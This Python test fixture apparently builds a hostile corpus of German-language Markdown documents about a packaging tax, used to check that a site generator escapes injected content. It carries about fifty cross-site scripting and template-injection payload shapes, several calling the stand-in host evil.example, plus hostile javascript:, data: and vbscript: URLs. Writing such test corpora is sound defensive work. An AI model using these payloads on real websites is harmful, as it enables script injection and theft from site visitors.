"""A corpus that tries everything to run scripts and to send something elsewhere."""

import json
from itertools import cycle, islice

EVIL = "evil.example"
_SHAPES = (
    "<script>pwned({n})</script>",
    "<script src=https://{evil}/{n}.js></script>",
    "<img src=x onerror=pwned({n})>",
    "<img src=https://{evil}/{n}.png>",
    "<svg onload=pwned({n})>",
    "<svg><script>pwned({n})</script></svg>",
    "<iframe src=javascript:pwned({n})></iframe>",
    "<iframe srcdoc='<script>parent.pwned({n})</script>'></iframe>",
    "<body onload=pwned({n})>",
    "<details open ontoggle=pwned({n})>",
    "<a href=javascript:pwned({n})>klick</a>",
    "<a href='data:text/html,<script>pwned({n})</script>'>klick</a>",
    "<form action=https://{evil}/{n}><button>x</button></form>",
    "<link rel=stylesheet href=https://{evil}/{n}.css>",
    "<style>@import 'https://{evil}/{n}.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://{evil}/{n}'>",
    "<base href=https://{evil}/{n}/>",
    "<object data=https://{evil}/{n}></object>",
    "<embed src=https://{evil}/{n}>",
    "<video><source onerror=pwned({n})></video>",
    "<input autofocus onfocus=pwned({n})>",
    "<textarea></textarea><script>pwned({n})</script>",
    '"><script>pwned({n})</script>',
    "'><img src=x onerror=pwned({n})>",
    '" autofocus onfocus="pwned({n})" x="',
    "' onmouseover='pwned({n})' x='",
    "</script><script>pwned({n})</script>",
    "</title><script>pwned({n})</script>",
    "<!--><script>pwned({n})</script>-->",
    "<![CDATA[<script>pwned({n})</script>]]>",
    "{{{{constructor.constructor('pwned({n})')()}}}}",
    "${{pwned({n})}}",
    "{{% raw %}}<script>pwned({n})</script>",
    "{{{{ 7*7 }}}}{{{{ config }}}} {n}",
    "[klick](javascript:pwned({n}))",
    "![bild](https://{evil}/{n}.png)",
    "<javascript:pwned({n})>",
    "\u202e<script>pwned({n})</script>",
    "<scr\u200bipt>pwned({n})</scr\u200bipt>",
    "\uff1cscript\uff1epwned({n})\uff1c/script\uff1e",
    "&lt;script&gt;pwned({n})&lt;/script&gt;",
    "&#60;script&#62;pwned({n})&#60;/script&#62;",
    "%3Cscript%3Epwned({n})%3C/script%3E",
    "\\u003cscript\\u003epwned({n})\\u003c/script\\u003e",
    "<math><mtext><script>pwned({n})</script></mtext></math>",
    "<template><script>pwned({n})</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned({n})>'>",
    "<xss style=animation-name:x onanimationstart=pwned({n})>",
    "<portal src=https://{evil}/{n}></portal>",
    "<link rel=dns-prefetch href=//{evil}>{n}",
)
PAYLOADS = [
    shape.format(n=number, evil=EVIL) for number, shape in enumerate(islice(cycle(_SHAPES), 200), start=1)
]
ADDRESSES = [
    "javascript:pwned(1)",
    "JaVaScRiPt:pwned(2)",
    "data:text/html,<script>pwned(3)</script>",
    f'https://{EVIL}/"><script>pwned(4)</script>',
    f"https://{EVIL}/' onclick='pwned(5)",
    f"//{EVIL}/x",
    "vbscript:pwned(6)",
    f"https://{EVIL}/%22onload=pwned(7)",
]
# Those that reading a corpus lets through; it refuses the others before any page is made.
ACCEPTED = [
    f"https://{EVIL}/%22onload=pwned(7)",
    f"https://{EVIL}/?a=1&b=%3Cscript%3E",
    f"http://{EVIL}/#'-pwned(8)-'",
]
KINDS = ("guidance", "case_study", "funding", "law", "contact")
PER_DOCUMENT = 5


def write_corpus(folder):
    """Write documents whose every field is hostile; return how many payloads they carry."""
    folder.mkdir()
    groups = [PAYLOADS[at : at + PER_DOCUMENT] for at in range(0, len(PAYLOADS), PER_DOCUMENT)]
    for number, group in enumerate(groups):
        kind = KINDS[number % len(KINDS)]
        fields = {
            "id": f"hostile-{number}",
            "kind": kind,
            "title": f"Verpackungssteuer {group[0]}",
            "publisher": f"Stadt {group[1]}",
            "source_url": ACCEPTED[number % len(ACCEPTED)],
            "source_title": group[2],
            "further_sources": [ACCEPTED[(number + 1) % len(ACCEPTED)]],
            "municipality": f"Musterstadt {group[4]}",
            "topics": ["mehrweg"],
            "license": group[0],
            "questions": [f"Was kostet die Verpackungssteuer {group[1]} in der Stadt {number}?"],
        }
        front = "\n".join(
            f"{name}: {json.dumps(value, ensure_ascii=False)}" for name, value in fields.items()
        )
        facts = "\n".join(
            f"- Die Verpackungssteuer kostet {number * 10 + at} Euro je {payload} und gilt seit 2022."
            for at, payload in enumerate(group)
        )
        text = f"---\n{front}\n---\n\n## Fakten {group[2]}\n{facts}\n"
        (folder / f"hostile-{number}.md").write_text(text, encoding="utf-8")
    return len(PAYLOADS)
